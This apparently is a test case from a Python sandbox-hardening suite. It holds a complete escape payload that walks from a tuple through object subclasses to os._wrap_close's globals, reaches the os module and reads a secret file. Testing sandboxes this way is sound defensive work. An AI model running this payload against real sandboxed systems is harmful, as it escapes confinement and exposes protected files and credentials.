# class: object graph walk
# technique: from a literal to the root class, to all subclasses, to the globals of os
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
classes = ().__class__.__base__.__subclasses__()
g = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
